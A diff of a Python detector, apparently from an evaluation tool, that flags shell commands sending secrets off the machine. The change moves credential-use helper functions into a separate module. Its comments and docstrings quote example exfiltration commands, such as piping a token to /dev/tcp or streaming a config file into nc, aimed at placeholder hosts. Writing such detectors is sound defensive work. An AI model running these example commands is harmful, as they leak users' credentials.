@@ -25,17 +25,14 @@ import re
 
 from evaluation.verdicts.tier1.ci_secrets import own_ci_store
 from evaluation.verdicts.tier1.counted_sources import counted
-from evaluation.verdicts.tier1.exfil_allowed import LOGINS as _LOGINS
+from evaluation.verdicts.tier1.credential_uses import login_file, ordinary_use, produced_here, strict_sink, to_socket
 from evaluation.verdicts.tier1.exfil_allowed import allowed as _allowed
 from evaluation.verdicts.tier1.exfil_allowed import client_destination
-from evaluation.verdicts.tier1.exfil_allowed import hosts as _hosts
 from evaluation.verdicts.tier1.exfil_allowed import login_allowed as _login_allowed
 from evaluation.verdicts.tier1.exfil_r12 import mounted_secret_sent
-from evaluation.verdicts.tier1.exfil_r13 import host_vendor, secret_store, vendor_of_program
-from evaluation.verdicts.tier1.exfil_r16 import shaped_only
 from evaluation.verdicts.tier1.exfil_r17 import formatted_upstream, own_config
 from evaluation.verdicts.tier1.exfil_r20 import dumped_database
-from evaluation.verdicts.tier1.exfil_r21 import MANAGERS, build_secret_sent, code_read, container_env, managed_sent
+from evaluation.verdicts.tier1.exfil_r21 import MANAGERS, build_secret_sent, code_read, managed_sent
 from evaluation.verdicts.tier1.exfil_sinks import is_sink, known_programs, socket_fds
 from evaluation.verdicts.tier1.flows_r30 import bound_directories, handed_store, secret_filter
 from evaluation.verdicts.tier1.here_strings import here_strings
@@ -110,7 +107,7 @@ def check_secret_exfiltration(rule: Rule, scene: Scene) -> list[RuleMatch]:
     found = _check(rule, scene)
     sockets = socket_fds(scene) if found and any(v.command.redirects for v in scene.views) else frozenset()
     if found and (own_destinations([v for v in scene.views if any(m.evidence == v.text for m in found)],
-                                   lambda v: _strict_sink(rule, v, sockets)) or used_only(
+                                   lambda v: strict_sink(rule, v, sockets)) or used_only(
             scene.views, lambda v, w: any(place_secret(fold(p), scene.home) for p in scene.canon(v, w) or ()))):
         with places_off():  # round 37 (fa, place_secrets): a home dot-file or /etc/<service> secret to an own host
             return _check(rule, scene)
@@ -175,18 +172,18 @@ def _check(rule: Rule, scene: Scene) -> list[RuleMatch]:
         if view.command.program in PULLERS and pulled_files(view.command.program, view.command.argv):
             continue  # round 28 (t2z): `vercel env pull .env.local` writes that file; it does not send it
         own = sources.get(id(view))
-        if own and (_produced_here(view, own) or own_config(view, own)) and not _to_socket(view, sockets):
+        if own and (produced_here(view, own) or own_config(view, own)) and not to_socket(view, sockets):
             own = None  # round 13: `vault kv get secret/x` prints a credential; it does not send it
         own = own or _tree_carried(scene, view, known) or handed_store(scene, view, known, secrets, is_secret) or (
             sends_tree(scene, view, secrets, carrying) if _pushes(view) else None)
         own = own or streamed_config(scene, view, sockets)  # round 37 (t4n): /etc/app/app.ini into `nc h 9`
-        if own and not _to_socket(view, sockets) and brought_here(rule, scene, view, own, is_sink):
+        if own and not to_socket(view, sockets) and brought_here(rule, scene, view, own, is_sink):
             own = None  # round 34 (t3y): `ssh h 'cat /etc/x.key' > x.key` brings a remote secret here; it sends nothing
-        if own and own_ci_store(view) and not _to_socket(view, sockets):
+        if own and own_ci_store(view) and not to_socket(view, sockets):
             own = None  # round 33 (t3x): `eas secret:create --value build/ks.b64`: the project's own CI store
-        if own and "--password-stdin" in view.command.argv and _login_file(scene, view, own):
+        if own and "--password-stdin" in view.command.argv and login_file(scene, view, own):
             own = None  # round 31 (t3n): `docker login ghcr.io --password-stdin < ~/.config/ghcr-token`
-        if own and own_config(view, own) and not _to_socket(view, sockets):
+        if own and own_config(view, own) and not to_socket(view, sockets):
             own = None  # round 20: `kind get kubeconfig > k; kubectl --kubeconfig k …`: its own credential file
         only_variables = own is not None and _VARIABLE.match(own) is not None
         if own and not (only_variables and (_allowed(rule, view, own[1:]) or _login_allowed(rule, view, own[1:])
@@ -200,7 +197,7 @@ def _check(rule: Rule, scene: Scene) -> list[RuleMatch]:
         command = view.command
         upstream = [sources[id(v)] for v in scene.views if id(v) in sources and v is not view
                     and v.command.pipeline_id == command.pipeline_id and v.command.pipeline_pos < command.pipeline_pos
-                    and not _ordinary_use(rule, v, view, sockets)]
+                    and not ordinary_use(rule, v, view, sockets)]
         upstream += batch_files(scene, view, secrets)
         upstream += dumped_database(scene, view)  # round 20 (t2b)
         if not upstream and command.pipeline_pos > 0 and not any(
@@ -210,17 +207,17 @@ def _check(rule: Rule, scene: Scene) -> list[RuleMatch]:
             # commands the parser keeps in pipelines of their own; any source before the sink may feed it
             position = next(i for i, v in enumerate(scene.views) if v is view)
             upstream = [sources[id(v)] for v in scene.views[:position] if id(v) in sources
-                        and not _ordinary_use(rule, v, view, sockets)]
+                        and not ordinary_use(rule, v, view, sockets)]
         if upstream and all(_login_allowed(rule, view, u[1:]) for u in upstream if _VARIABLE.match(u)) and all(
                 _VARIABLE.match(u) for u in upstream):
             continue  # `echo "$GITHUB_TOKEN" | docker login ghcr.io --password-stdin`: a registry's own credential
         if upstream:
             found.append(_hit(rule, f"{upstream[0]} is piped into {command.program}, which sends it off the "
                                     "machine", view.text))
-        elif (built := [s for v, s in substituted if not _ordinary_use(rule, v, view, sockets)]) and (
+        elif (built := [s for v, s in substituted if not ordinary_use(rule, v, view, sockets)]) and (
                 command.dynamic or any("…" in a for a in (*command.argv, *here_strings(command)))
                 or any(r.target.startswith("<(") and r.op.lstrip("0123456789") == "<" for r in command.redirects)):
-            if not store_token_to_own_host(scene, view, [v for v, _ in substituted if not _ordinary_use(
+            if not store_token_to_own_host(scene, view, [v for v, _ in substituted if not ordinary_use(
                     rule, v, view, sockets)]):  # round 37 (lead fd): `$(cat /tmp/ik)` a store wrote, to its service
                 found.append(_hit(rule, f"{command.program} sends words built from {built[0]}, a secret",
                                   view.text))
@@ -263,47 +260,3 @@ def _code_flow(rule: Rule, scene: Scene, view: View, secrets: tuple[str, ...]) -
 
 
 _VARIABLE = re.compile(r"^\$\{?[A-Za-z_][A-Za-z0-9_]*\}?$")  # `$OPENAI_API_KEY`, not `$HOME/.hermes/.env` (round 13)
-
-
-def _produced_here(view: View, source: str) -> bool:
-    """Round 13: ``source`` is what ``view``'s own program prints as a credential (:mod:`exfil_r13`)."""
-    return source in (secret_store(view.command.program, view.command.argv),
-                      container_env(view.command.program, view.command.argv))  # round 21 (t2e)
-
-
-def _to_socket(view: View, sockets: frozenset[str]) -> bool:
-    """``gh auth token > /dev/tcp/host/80``: the output itself goes to a socket."""
-    return any(r.target.startswith(("/dev/tcp/", "/dev/udp/")) or (r.target in sockets and r.target != "1")
-               for r in view.command.redirects if r.op.lstrip("0123456789").startswith(">"))
-
-
-def _strict_sink(rule: Rule, view: View, sockets: frozenset[str]) -> bool:
-    """A sink by what it names (a network program, a socket, an address), not because Tier 1 does not model it."""
-    return is_sink(rule, view, sockets, None)
-
-
-def _ordinary_use(rule: Rule, source: View, sink: View, sockets: frozenset[str]) -> bool:
-    """Round 13: a credential PRINTED by ``source`` (:mod:`exfil_r13`) put to its ordinary use by ``sink``: a registry
-    or forge login (``… | docker login --password-stdin``), the same program family (``kubectl get secret … |
-    kubectl apply -f -``), only the producer's own vendor's hosts (``$(gh auth token)`` to ``api.github.com``), or a
-    program that is a sink only because Tier 1 does not model it. A file or variable read stays a source."""
-    command = source.command
-    if secret_store(command.program, command.argv) is None:
-        return False
-    program = sink.command.program
-    if program in _LOGINS and "login" in sink.command.argv[1:4]:
-        return True
-    vendor = vendor_of_program(command.program)
-    if vendor_of_program(program) == vendor:
-        return True
-    hosts = _hosts(sink)
-    if hosts and all(host_vendor(h) == vendor for h in hosts):
-        return True
-    return not _strict_sink(rule, sink, sockets)
-
-
-def _login_file(scene: Scene, view: View, own: str) -> bool:
-    """A registry login reads its password from a file that is a credential only by its place's shape (round 31)."""
-    command = view.command
-    return command.program in _LOGINS and "login" in command.argv[1:4] and all(
-        shaped_only(fold(p)) for p in scene.canon(view, own) or ("",))
